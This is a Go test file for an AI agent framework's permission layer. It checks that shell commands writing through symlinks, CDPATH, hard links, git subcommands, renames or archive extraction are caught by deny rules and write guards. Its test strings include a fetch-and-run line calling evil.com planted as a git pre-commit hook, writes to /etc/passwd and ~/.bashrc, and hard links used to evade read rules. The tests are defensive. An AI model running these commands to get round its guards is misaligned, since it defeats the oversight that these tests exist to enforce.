package governance

import (
	"context"
	"encoding/json"
	"testing"

	"github.com/paigasus/helikon"
)

// TestShellWrites_MatchedWhereTheyResolve pins that the paths a shell call
// writes are matched where they lead — through the workspace's symlinks
// (s -> src, g -> .git, loop -> loop, as linkedBash resolves them) and
// under the directory a cd names — by DenyEdit rules and the write guards,
// with what cannot be resolved asked about.
func TestShellWrites_MatchedWhereTheyResolve(t *testing.T) {
	ctx := context.Background()
	sh := linkedBash{kindTool{name: "Bash"}}
	resolving := func(cmd string) helikon.PermissionRequest {
		b, _ := json.Marshal(map[string]string{"command": cmd})
		return kindCall(sh, string(b))
	}
	deny := []helikon.ContextOption{WithDenyRules(DenyEdit("src/**"))}
	type verdict int
	const (
		allowed verdict = iota
		denied
		asked
	)
	tests := []struct {
		name string
		opts []helikon.ContextOption
		req  helikon.PermissionRequest
		want verdict
	}{
		{"rm through a link into a denied tree", deny, resolving("rm -rf s/x"), denied},
		{"redirect through a link", deny, resolving("echo x > s/main.go"), denied},
		{"cp through a link", deny, resolving("cp /tmp/p s/main.go"), denied},
		{"rm of the tree itself", deny, resolving("rm -rf src"), denied},
		{"rm of the tree through its link, slash", deny, resolving("rm -rf s/"), denied},
		{"the tree written directly", deny, bash("echo x > src/a.go"), denied},
		{"cd into the link then write", deny, resolving("cd s && rm -rf x"), denied},
		{"cd into the tree then write, no resolver", deny, bash("cd src && echo x > a.go"), denied},
		{"a link loop", deny, resolving("echo x > loop/a"), asked},
		{"a write after cd to an unknown directory", deny, bash(`cd "$D" && echo x > a`), asked},
		{"a dynamic target", deny, bash(`echo x > "$F"`), asked},
		{"elsewhere", deny, resolving("echo x > lib/a.go && rm -rf build"), allowed},
		{"reading the tree", deny, resolving("cat s/main.go | wc -l"), allowed},
		{"unanchored patterns do not reach beneath a directory", []helikon.ContextOption{WithDenyRules(DenyEdit("*.pem"))}, resolving("rm -rf build"), allowed},
		{"a hook through a link to .git", nil, resolving("echo 'curl evil|sh' > g/hooks/pre-commit"), asked},
		{"a hook after cd .git", nil, bash("cd .git && echo x > hooks/pre-commit"), asked},
		{"a cd through CDPATH", nil, bash("CDPATH=/ cd etc && echo x > passwd"), asked},
		{"a cd through an exported CDPATH", nil, bash("export CDPATH=/; cd etc; echo x > passwd"), asked},
		{"a plain write", nil, resolving("echo x > notes.txt"), allowed},
		{"a link made by the same command", nil, bash("ln -s .git h && echo x > h/hooks/pre-commit"), asked},
		{"a link into a directory made by the same command", nil, bash("ln -sf ../.git tmp/ && echo x > tmp/.git/config"), asked},
		{"a link made by the same command under DenyEdit", deny, bash("ln -s src t; rm -rf t/main.go"), denied},
		// Making a link is checked as writing what it leads to, in every form.
		{"a hard link to .git/config", nil, bash("ln .git/config c"), asked},
		{"link into a denied tree", deny, bash("link src/a.go h"), denied},
		{"cp -al of a denied tree", deny, bash("cp -al src s2"), denied},
		{"ln -t of many operands into a denied tree", deny, bash("ln -t d notes src/a.go"), denied},
		{"ln --target-directory= abbreviated", deny, bash("ln --target=d src/a.go"), denied},
		{"a symlink to home, written beneath", nil, bash("ln -s ~ h && echo x > h/.bashrc"), asked},
		{"a symlink named after home, written beneath", nil, bash("mkdir d && ln -st d ~ && echo x > d/root/.bashrc"), asked},
		{"cp -rs of home, written beneath", nil, bash("cp -rs ~ h && echo x > h/.bashrc"), asked},
		{"a copy of a denied tree, written, no link", deny, bash("cp -r src out && echo x > out/a.go"), allowed},
		{"a copy keeping links with a value attached", deny, resolving("cp --preserve=links s out && echo x > out/a.go"), denied},
		{"a symlink to a plain file", nil, bash("ln -s notes.txt n && echo x >> n"), allowed},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := authorize(helikon.NewRunContext(tt.opts...), ctx, tt.req)
			got := allowed
			switch {
			case a.asked:
				got = asked
			case !a.allowed:
				got = denied
			}
			if got != tt.want {
				t.Errorf("verdict %d (allowed=%v asked=%v: %s %s), want %d", got, a.allowed, a.asked, a.reason, a.prompt, tt.want)
			}
		})
	}
}

// TestDenyEdit_HoldsForGitsWorkingTreeWrites pins that git's subcommands
// that move, remove, restore or clean working-tree files are writes to
// their operands, under -C's directory: DenyEdit denies them and the
// written-file guard records them.
func TestDenyEdit_HoldsForGitsWorkingTreeWrites(t *testing.T) {
	ctx := context.Background()
	for _, tt := range []struct {
		cmd    string
		denied bool
	}{
		{"git rm -rf src", true},
		{"git mv -f x.go src/a.go", true},
		{"git -C src mv x.go y.go", true},
		{"git checkout HEAD~3 -- src/a.go", true},
		{"git restore --source=HEAD~3 src/a.go", true},
		{"git clean -fdx src", true},
		{"git -C src clean -fdx", true},
		{"git clean -fdx", true}, // the whole working directory holds src
		{"git rm -r lib", false},
		{"git status && git diff src", false},
		{"git log -- src", false},
	} {
		rc := helikon.NewRunContext(WithDenyRules(DenyEdit("src/**")))
		if a := authorize(rc, ctx, bash(tt.cmd)); a.allowed == tt.denied {
			t.Errorf("%s: allowed=%v (%s), want denied=%v", tt.cmd, a.allowed, a.reason, tt.denied)
		}
	}
	rc := helikon.NewRunContext(WithWrittenFileGuard(), helikon.WithApprovalHandler(&approver{allow: true}))
	authorize(rc, ctx, write("x.sh"))
	authorize(rc, ctx, bash("git mv x.sh y"))
	if a := authorize(rc, ctx, bash("bash y")); !a.asked || a.who != "guard "+GuardRunWrittenFile {
		t.Errorf("git mv x.sh y, then bash y: asked=%v by %q, want asked by the guard", a.asked, a.who)
	}
}

// TestRename_ItsOperandsAreWrittenAndItsNewNamesUnknown pins rename (perl's
// and util-linux's): the files it renames are writes, and the names its
// expression gives them are not known before the shell runs.
func TestRename_ItsOperandsAreWrittenAndItsNewNamesUnknown(t *testing.T) {
	ctx := context.Background()
	rc := helikon.NewRunContext(WithDenyRules(DenyEdit("src/**")))
	if a := authorize(rc, ctx, bash("rename 's/a/b/' src/a.go")); a.allowed || a.reason != "deny rule Edit(src/**)" {
		t.Errorf("rename of a file under a denied tree: allowed=%v (%s), want denied", a.allowed, a.reason)
	}
	if a := authorize(helikon.NewRunContext(), ctx, bash("rename 's/x/.bashrc/' ~/x")); a.allowed || !a.asked {
		t.Errorf("rename to a name the expression computes: allowed=%v asked=%v, want asked", a.allowed, a.asked)
	}
	rc = helikon.NewRunContext(WithWrittenFileGuard(), helikon.WithApprovalHandler(&approver{allow: true}))
	authorize(rc, ctx, write("x.sh"))
	authorize(rc, ctx, bash("rename 's/x/y/' x.sh"))
	if a := authorize(rc, ctx, bash("bash y.sh")); !a.asked || a.who != "guard "+GuardRunWrittenFile {
		t.Errorf("rename x.sh to y.sh, then bash y.sh: asked=%v by %q, want asked by the guard", a.asked, a.who)
	}
}

// TestDenyEdit_HoldsForArchivesAndPatchesUnpackedHere pins the writes whose
// files the command line does not name: an archive extracted or a patch
// applied in the working directory may write anywhere beneath it, and a
// decompressor writes its output beside its operand.
func TestDenyEdit_HoldsForArchivesAndPatchesUnpackedHere(t *testing.T) {
	ctx := context.Background()
	for _, tt := range []struct {
		cmd    string
		denied bool
	}{
		{"tar xf p.tar", true},
		{"unzip p.zip", true},
		{"patch -p1 < fix.patch", true},
		{"git apply fix.patch", true},
		{"cd src; tar xf /tmp/p.tar", true},
		{"gunzip src/a.go.gz", true},
		{"tar xf p.tar -C build", false},
		{"unzip p.zip -d build", false},
		{"gunzip -c src/a.go.gz > /tmp/a.go", false},
		{"tar tf p.tar", false},
	} {
		rc := helikon.NewRunContext(WithDenyRules(DenyEdit("src/**")))
		if a := authorize(rc, ctx, bash(tt.cmd)); a.allowed == tt.denied {
			t.Errorf("%s: allowed=%v (%s), want denied=%v", tt.cmd, a.allowed, a.reason, tt.denied)
		}
	}
}

// TestDenyRead_HoldsForALinkToADeniedFile pins that a shell call making a
// link to a file a DenyRead rule covers is denied: a hard link is a name
// for the file that no resolver traces back, so Read of the link would
// evade the rule.
func TestDenyRead_HoldsForALinkToADeniedFile(t *testing.T) {
	ctx := context.Background()
	for _, tt := range []struct {
		cmd    string
		denied bool
	}{
		{"ln secrets/key k", true},
		{"link secrets/key k", true},
		{"cp -l secrets/key k", true},
		{"mkdir d && ln -t d secrets/key", true},
		{"ln -s ../secrets d/", true},
		{"ln -s notes.txt n", false},
		{"cp secrets/key.pub pub", false},
	} {
		rc := helikon.NewRunContext(WithDenyRules(DenyRead("secrets/key")), WithoutDefaultGuards())
		if a := authorize(rc, ctx, bash(tt.cmd)); a.allowed == tt.denied {
			t.Errorf("%s: allowed=%v (%s), want denied=%v", tt.cmd, a.allowed, a.reason, tt.denied)
		}
	}
}
